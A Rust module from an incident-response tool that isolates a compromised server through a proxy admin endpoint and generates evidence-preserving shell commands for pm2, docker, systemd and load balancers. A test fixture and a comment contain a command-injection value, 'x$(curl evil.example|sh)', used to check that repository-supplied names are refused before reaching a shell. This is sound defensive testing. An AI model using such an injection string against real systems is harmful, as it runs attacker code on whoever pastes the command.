//! Phase 2, isolate (`warden incident isolate`): stop the bleeding without destroying
//! the evidence. Through the proxy's admin endpoint: fence (the whole server, the
//! sessions involved, or the tools the patterns used), revoke the sessions the scope
//! named, block the addresses they called from; each action journaled, then checked
//! against the proxy's own status. For what the product cannot do itself, the
//! paste-ready commands for this deployment (pm2, docker, systemd, a load balancer),
//! freezing and disconnecting before stopping: the process is evidence until triage
//! is done.

use std::net::IpAddr;
use std::path::Path;

use serde::Serialize;
use serde_json::{Map, Value, json};

use crate::case::{Case, CaseError};

/// How isolate reaches the proxy's admin endpoint (a Unix socket or loopback HTTP);
/// the CLI supplies the transport.
pub trait Admin {
    /// Sends one admin request and returns the proxy's answer.
    fn send(&self, request: &Value) -> Result<Value, String>;
    /// Where the endpoint is, for messages.
    fn describe(&self) -> String;
}

/// How much to fence.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum FenceScope {
    /// Every tool call, every session: the default while the entry point is unknown
    /// or unpatched.
    Server,
    /// Only the sessions involved (other clients keep working).
    Sessions,
    /// Only the tools the patterns used.
    Tools,
}

/// What to isolate: from the scope, or given by hand.
#[derive(Debug, Clone)]
pub struct Targets {
    pub sessions: Vec<String>,
    pub addresses: Vec<String>,
    pub tools: Vec<String>,
}

/// The deployment, for the commands the product cannot run itself. Unknown parts are
/// looked for in the repository (compose services, pm2 ecosystem files, systemd
/// units), else left as placeholders.
#[derive(Debug, Clone, Default)]
pub struct Deployment {
    pub pm2: Option<String>,
    pub docker: Option<String>,
    pub docker_network: Option<String>,
    pub systemd: Option<String>,
    /// `nginx:UPSTREAM/HOST:PORT`, `haproxy:BACKEND/SERVER`, `aws:TARGET_GROUP_ARN/TARGET_ID`
    /// or `k8s:POD/LABEL`.
    pub load_balancer: Option<String>,
}

/// One admin action and what the proxy said.
#[derive(Debug, Clone, Serialize)]
pub struct Action {
    pub op: String,
    pub target: String,
    /// `done`, `not needed` (with why), or `FAILED` (with the proxy's error).
    pub outcome: String,
    pub detail: String,
}

/// What isolate did.
#[derive(Debug, Clone, Serialize)]
pub struct Isolation {
    pub proxy: Option<String>,
    pub fence: FenceScope,
    pub actions: Vec<Action>,
    /// Checked against the proxy's status afterwards.
    pub verified: Vec<String>,
    /// What does not hold (empty when isolation is complete).
    pub problems: Vec<String>,
    /// The paste-ready commands, in Markdown.
    pub manual_steps: String,
}

/// Why isolate could not run.
#[derive(Debug, thiserror::Error)]
pub enum IsolateError {
    #[error(transparent)]
    Case(#[from] CaseError),
}

fn is_loopback(address: &str) -> bool {
    address.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
}

/// Isolates through `admin` (when there is a proxy) and journals every step.
pub fn isolate(
    case: &Case,
    admin: Option<&dyn Admin>,
    fence: FenceScope,
    freeze: bool,
    targets: &Targets,
    deployment: &Deployment,
) -> Result<Isolation, IsolateError> {
    let reason = format!("incident {}: isolate", case.meta.id);
    let mut actions = Vec::new();
    let mut verified = Vec::new();
    let mut problems = Vec::new();
    let mut record = |case: &Case, action: Action| -> Result<(), IsolateError> {
        let mut details = Map::new();
        details.insert("op".into(), json!(action.op));
        details.insert("target".into(), json!(action.target));
        details.insert("outcome".into(), json!(action.outcome));
        details.insert("detail".into(), json!(action.detail));
        case.journal("isolate_action", details)?;
        actions.push(action);
        Ok(())
    };
    if let Some(admin) = admin {
        match admin.send(&json!({"op": "status"})) {
            Err(e) => {
                problems.push(format!(
                    "the proxy does not answer at {}: {e}. Nothing was fenced: isolate with the commands below, and check the proxy (is it running? the socket path?).",
                    admin.describe()
                ));
                record(
                    case,
                    Action {
                        op: "status".into(),
                        target: admin.describe(),
                        outcome: "FAILED".into(),
                        detail: e,
                    },
                )?;
            }
            Ok(_) => {
                let (fence_req, fence_target) = match fence {
                    FenceScope::Server => (
                        json!({"op": "fence", "freeze": freeze, "reason": reason}),
                        "the whole server".to_string(),
                    ),
                    FenceScope::Sessions => (
                        json!({"op": "fence", "sessions": targets.sessions, "freeze": freeze, "reason": reason}),
                        format!("sessions {}", targets.sessions.join(", ")),
                    ),
                    FenceScope::Tools => (
                        json!({"op": "fence", "tools": targets.tools, "freeze": freeze, "reason": reason}),
                        format!("tools {}", targets.tools.join(", ")),
                    ),
                };
                let empty = match fence {
                    FenceScope::Sessions => targets.sessions.is_empty(),
                    FenceScope::Tools => targets.tools.is_empty(),
                    FenceScope::Server => false,
                };
                if empty {
                    problems.push(format!(
                        "nothing to fence at the {fence:?} scope (the scope named none); fence the whole server with --fence server"
                    ));
                } else {
                    let action = admin_action(admin, "fence", &fence_target, &fence_req);
                    if action.outcome == "FAILED" {
                        problems.push(format!("fence failed: {}", action.detail));
                    }
                    record(case, action)?;
                }
                for session in &targets.sessions {
                    let req = json!({"op": "revoke-session", "session": session, "reason": reason});
                    let mut action = admin_action(admin, "revoke-session", session, &req);
                    if action.outcome == "FAILED" && action.detail.contains("no live session") {
                        // A session that has ended cannot send again; its id is refused
                        // if it comes back (the proxy keeps tombstones).
                        action.outcome = "not needed".into();
                        action.detail = "the session has already ended".into();
                    } else if action.outcome == "FAILED" {
                        problems.push(format!("revoking {session} failed: {}", action.detail));
                    }
                    record(case, action)?;
                }
                for address in &targets.addresses {
                    if is_loopback(address) {
                        // Blocking loopback would cut off the local operators and the
                        // return check too; the fence and the revocations cover it.
                        record(
                            case,
                            Action {
                                op: "block".into(),
                                target: address.clone(),
                                outcome: "not needed".into(),
                                detail: "a loopback address (a local client): the fence and the session revocations cover it; find the local process instead".into(),
                            },
                        )?;
                        continue;
                    }
                    let req = json!({"op": "block", "address": address, "reason": reason});
                    let action = admin_action(admin, "block", address, &req);
                    if action.outcome == "FAILED" {
                        problems.push(format!("blocking {address} failed: {}", action.detail));
                    }
                    record(case, action)?;
                }
                check_status(admin, fence, targets, &mut verified, &mut problems);
            }
        }
    } else {
        problems.push("no proxy admin endpoint given (--proxy, or `warden incident open --proxy`): nothing was fenced; use the commands below".into());
    }
    let manual_steps = manual_steps(case.meta.repo.as_deref().map(Path::new), deployment);
    let mut details = Map::new();
    details.insert("fence".into(), json!(fence));
    details.insert("freeze".into(), json!(freeze));
    details.insert("sessions".into(), json!(targets.sessions));
    details.insert("addresses".into(), json!(targets.addresses));
    details.insert("verified".into(), json!(verified));
    details.insert("problems".into(), json!(problems));
    if problems.is_empty() {
        case.phase_done("isolate", details)?;
    } else {
        // Not done: the timeline keeps isolate open until it holds.
        case.journal("isolate_incomplete", details)?;
    }
    Ok(Isolation {
        proxy: admin.map(|a| a.describe()),
        fence,
        actions,
        verified,
        problems,
        manual_steps,
    })
}

fn admin_action(admin: &dyn Admin, op: &str, target: &str, request: &Value) -> Action {
    let (outcome, detail) = match admin.send(request) {
        Ok(reply) if reply["ok"] == json!(true) => {
            let mut detail = String::new();
            if let Some(n) = reply["cancelled_in_flight"].as_u64() {
                detail = format!("{n} call(s) in flight cancelled");
            }
            if reply["recorded"] == json!(false) {
                detail.push_str(&format!(
                    " (the proxy could not record it: {})",
                    reply["record_error"]
                ));
            }
            ("done", detail.trim().to_string())
        }
        Ok(reply) => (
            "FAILED",
            reply["error"]
                .as_str()
                .unwrap_or("the proxy refused without a reason")
                .to_string(),
        ),
        Err(e) => ("FAILED", e),
    };
    Action {
        op: op.into(),
        target: target.into(),
        outcome: outcome.into(),
        detail,
    }
}

/// Reads the proxy's status back: the fence is up, the sessions are revoked, the
/// addresses blocked.
fn check_status(
    admin: &dyn Admin,
    fence: FenceScope,
    targets: &Targets,
    verified: &mut Vec<String>,
    problems: &mut Vec<String>,
) {
    let status = match admin.send(&json!({"op": "status"})) {
        Ok(reply) => reply["status"].clone(),
        Err(e) => {
            problems.push(format!("could not read the proxy's status back: {e}"));
            return;
        }
    };
    let up = &status["fence"];
    let holds = match fence {
        FenceScope::Server => up["all"] == json!(true),
        FenceScope::Sessions => targets.sessions.iter().all(|s| {
            up["sessions"]
                .as_array()
                .is_some_and(|a| a.contains(&json!(s)))
        }),
        FenceScope::Tools => targets.tools.iter().all(|t| {
            up["tools"]
                .as_array()
                .is_some_and(|a| a.contains(&json!(t)))
        }),
    };
    if holds {
        verified.push(format!("fence up ({fence:?})"));
    } else {
        problems.push(format!(
            "the proxy's status does not show the fence: {}",
            up
        ));
    }
    let live: Vec<&str> = status["sessions"]
        .as_array()
        .map(|a| a.iter().filter_map(|s| s["id"].as_str()).collect())
        .unwrap_or_default();
    for s in &targets.sessions {
        let revoked = status["revoked_sessions"]
            .as_array()
            .is_some_and(|a| a.contains(&json!(s)));
        if revoked || !live.contains(&s.as_str()) {
            verified.push(format!("session {s} cannot call"));
        } else {
            problems.push(format!("session {s} is live and not revoked"));
        }
    }
    // The proxy lists blocks as CIDR text; an address counts when a block is exactly it
    // (`a` or `a/32`, `a/128`) or the block the operator gave.
    let blocked: Vec<&str> = status["blocked"]
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    for a in targets.addresses.iter().filter(|a| !is_loopback(a)) {
        let host_block = |b: &&str| {
            *b == a.as_str()
                || b.split_once('/')
                    .is_some_and(|(ip, bits)| ip == a.as_str() && (bits == "32" || bits == "128"))
        };
        if blocked.iter().any(host_block) {
            verified.push(format!("{a} blocked"));
        } else {
            problems.push(format!("{a} is not in the proxy's block list"));
        }
    }
}

/// What the repository says about how the server is deployed.
fn detect(repo: Option<&Path>, given: &Deployment) -> Deployment {
    let mut d = given.clone();
    let Some(repo) = repo else { return d };
    let read = |name: &str| std::fs::read_to_string(repo.join(name)).ok();
    if d.docker.is_none() {
        let compose = [
            "compose.yaml",
            "compose.yml",
            "docker-compose.yml",
            "docker-compose.yaml",
        ]
        .iter()
        .find_map(|f| read(f));
        if let Some(text) = compose {
            d.docker = first_compose_service(&text);
        }
    }
    if d.pm2.is_none() {
        let eco = [
            "ecosystem.config.js",
            "ecosystem.config.cjs",
            "ecosystem.config.json",
        ]
        .iter()
        .find_map(|f| read(f));
        if let Some(text) = eco
            && let Some(c) = regex::Regex::new(r#"name["']?\s*:\s*["']([^"']+)["']"#)
                .ok()
                .and_then(|re| re.captures(&text))
        {
            d.pm2 = Some(c[1].to_string());
        }
    }
    if d.systemd.is_none()
        && let Ok(entries) = std::fs::read_dir(repo)
    {
        d.systemd = entries
            .flatten()
            .filter_map(|e| e.file_name().into_string().ok())
            .find(|n| n.ends_with(".service"));
    }
    d
}

/// The first service under `services:` in a compose file (indentation-based: enough
/// for a name, not a YAML parser).
fn first_compose_service(text: &str) -> Option<String> {
    let mut in_services = false;
    for line in text.lines() {
        if line.trim_end() == "services:" {
            in_services = true;
            continue;
        }
        if in_services {
            if !line.starts_with(' ') && !line.trim().is_empty() {
                return None;
            }
            let t = line.trim_end();
            let indent = t.len() - t.trim_start().len();
            if indent > 0 && indent <= 4 && t.ends_with(':') && !t.trim_start().starts_with('#') {
                return Some(t.trim().trim_end_matches(':').to_string());
            }
        }
    }
    None
}

/// Whether a name can go into a shell command unquoted. Names read from the
/// repository are the attacker's text (the server may be what was compromised): one
/// like `x$(curl …|sh)` would run on the responder's machine when pasted.
fn shell_safe(v: &str) -> bool {
    !v.is_empty()
        && v.len() <= 200
        && v.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_.@:/=+-".contains(&b))
}

/// The paste-ready commands for what the product cannot do itself.
pub fn manual_steps(repo: Option<&Path>, given: &Deployment) -> String {
    let mut d = detect(repo, given);
    let mut refused = Vec::new();
    for v in [
        &mut d.pm2,
        &mut d.docker,
        &mut d.docker_network,
        &mut d.systemd,
        &mut d.load_balancer,
    ] {
        if let Some(text) = v.take_if(|t| !shell_safe(t)) {
            refused.push(text.escape_debug().to_string());
        }
    }
    let or = |v: &Option<String>, placeholder: &str| {
        v.clone().unwrap_or_else(|| placeholder.to_string())
    };
    let mut out = String::from(
        "Do NOT destroy the server process, container or host before triage and preserve are done: its memory, files and logs are evidence. Freeze or disconnect first; stop later; delete never (until the case is closed).\n",
    );
    for r in &refused {
        out.push_str(&format!(
            "\nA deployment name was left out because it has characters a shell would act on: \"{r}\" — check it by hand before using it.\n"
        ));
    }
    let none_known =
        d.pm2.is_none() && d.docker.is_none() && d.systemd.is_none() && d.load_balancer.is_none();
    if none_known {
        out.push_str("\nThe deployment is not known (give --pm2, --docker, --systemd or --lb); the commands below have placeholders in <>.\n");
    }
    if d.pm2.is_some() || none_known {
        let name = or(&d.pm2, "<pm2 app name>");
        out.push_str(&format!(
            "\n## pm2\n```sh\nkill -STOP $(pm2 pid {name})        # freeze: memory kept for forensics\npm2 logs {name} --lines 10000 --nostream > pm2-{name}.log 2>&1\npm2 stop {name}                      # after the memory is captured; NOT `pm2 delete`\n```\n"
        ));
    }
    if d.docker.is_some() || none_known {
        let c = or(&d.docker, "<container>");
        let net = d.docker_network.clone().unwrap_or_else(|| {
            format!(
                "$(docker inspect -f '{{{{range $k, $v := .NetworkSettings.Networks}}}}{{{{$k}}}} {{{{end}}}}' {c})"
            )
        });
        out.push_str(&format!(
            "\n## docker\n```sh\nfor net in {net}; do docker network disconnect \"$net\" {c}; done   # cut it off, keep it running\ndocker pause {c}                     # freeze its processes, memory kept\ndocker inspect {c} > docker-inspect-{c}.json\ndocker logs --timestamps {c} > docker-{c}.log 2>&1\ndocker diff {c} > docker-diff-{c}.txt   # files changed since the image\ndocker export {c} | gzip > container-{c}.tar.gz\n# only after triage: docker stop {c}   (never `docker rm` before the case is closed)\n```\n"
        ));
    }
    if d.systemd.is_some() || none_known {
        let u = or(&d.systemd, "<unit>.service");
        out.push_str(&format!(
            "\n## systemd\n```sh\nsystemctl freeze {u}                  # systemd >= 246: cgroup freezer, memory kept\n# older systemd: systemctl kill --signal=SIGSTOP {u}\njournalctl -u {u} --since \"-24h\" -o short-iso-precise > {u}.journal\n# only after triage: systemctl stop {u} && systemctl mask {u}   (so nothing restarts it)\n```\n"
        ));
    }
    let lb = d.load_balancer.clone();
    match lb.as_deref().and_then(|l| l.split_once(':')) {
        Some(("nginx", rest)) => {
            let (upstream, server) = rest.split_once('/').unwrap_or((rest, "<host:port>"));
            out.push_str(&format!(
                "\n## load balancer (nginx)\n```sh\n# in `upstream {upstream} {{ … }}`, mark the server down:  server {server} down;\nnginx -t && nginx -s reload\n```\n"
            ));
        }
        Some(("haproxy", target)) => out.push_str(&format!(
            "\n## load balancer (HAProxy)\n```sh\necho \"set server {target} state maint\" | socat stdio /run/haproxy/admin.sock\n```\n"
        )),
        Some(("aws", rest)) => {
            let (arn, id) = rest.rsplit_once('/').unwrap_or((rest, "<target id>"));
            out.push_str(&format!(
                "\n## load balancer (AWS ELB)\n```sh\naws elbv2 deregister-targets --target-group-arn {arn} --targets Id={id}\n```\n"
            ));
        }
        Some(("k8s", rest)) => {
            let (pod, label) = rest.split_once('/').unwrap_or((rest, "<selector label>"));
            out.push_str(&format!(
                "\n## load balancer (Kubernetes Service)\n```sh\nkubectl label pod {pod} {label}-   # out of the Service's endpoints, the pod keeps running\n```\n"
            ));
        }
        _ => out.push_str(
            "\n## load balancer\n```sh\n# nginx:   in the upstream block, `server <host:port> down;` then nginx -t && nginx -s reload\n# HAProxy: echo \"set server <backend>/<server> state maint\" | socat stdio /run/haproxy/admin.sock\n# AWS:     aws elbv2 deregister-targets --target-group-arn <arn> --targets Id=<target id>\n# k8s:     kubectl label pod <pod> <selector label>-\n```\n",
        ),
    }
    out
}

impl Isolation {
    /// For people.
    pub fn render(&self) -> String {
        let mut out = String::new();
        if let Some(p) = &self.proxy {
            out.push_str(&format!("proxy: {p}\n"));
        }
        for a in &self.actions {
            out.push_str(&format!(
                "  {:<15} {:<40} {}{}\n",
                a.op,
                a.target,
                a.outcome,
                if a.detail.is_empty() {
                    String::new()
                } else {
                    format!(" — {}", a.detail)
                }
            ));
        }
        for v in &self.verified {
            out.push_str(&format!("  verified: {v}\n"));
        }
        if self.problems.is_empty() {
            out.push_str("\nisolation holds (checked against the proxy's status).\n");
        } else {
            out.push_str("\nISOLATION IS NOT COMPLETE:\n");
            for p in &self.problems {
                out.push_str(&format!("  - {p}\n"));
            }
        }
        out.push_str("\nWhat the proxy cannot do — paste these:\n");
        out.push_str(&self.manual_steps);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compose_service_names() {
        let text = "version: '3'\nservices:\n  # the server\n  mcp-server:\n    image: x\n  db:\n    image: postgres\nvolumes:\n  data:\n";
        assert_eq!(first_compose_service(text).as_deref(), Some("mcp-server"));
        assert_eq!(first_compose_service("volumes:\n  a:\n"), None);
    }

    #[test]
    fn commands_are_filled_in_and_never_destroy() {
        let d = Deployment {
            docker: Some("mcp".into()),
            systemd: Some("mcp.service".into()),
            load_balancer: Some("haproxy:mcp_back/srv1".into()),
            ..Deployment::default()
        };
        let text = manual_steps(None, &d);
        assert!(text.contains("docker pause mcp"));
        assert!(text.contains("systemctl freeze mcp.service"));
        assert!(text.contains("set server mcp_back/srv1 state maint"));
        assert!(!text.contains("## pm2"), "only what the deployment has");
        assert!(!text.contains("\ndocker rm"));
        assert!(!text.contains("\npm2 delete"));
        let unknown = manual_steps(None, &Deployment::default());
        assert!(unknown.contains("<container>") && unknown.contains("<pm2 app name>"));
    }

    #[test]
    fn names_from_the_repository_never_reach_a_shell_unquoted() {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(
            dir.path().join("ecosystem.config.js"),
            "module.exports = { apps: [{ name: 'x$(curl evil.example|sh)' }] }",
        )
        .expect("write");
        let text = manual_steps(Some(dir.path()), &Deployment::default());
        assert!(!text.contains("pm2 pid x$("), "{text}");
        assert!(
            text.contains("left out because it has characters a shell would act on"),
            "{text}"
        );
        assert!(text.contains("<pm2 app name>"), "{text}");
        assert!(shell_safe("mcp-server_1.service") && shell_safe("haproxy:back/srv1"));
        assert!(!shell_safe("a b") && !shell_safe("a;b") && !shell_safe("`id`"));
    }

    #[test]
    fn loopback_is_never_blocked() {
        assert!(is_loopback("127.0.0.1") && is_loopback("::1"));
        assert!(!is_loopback("203.0.113.7"));
    }
}
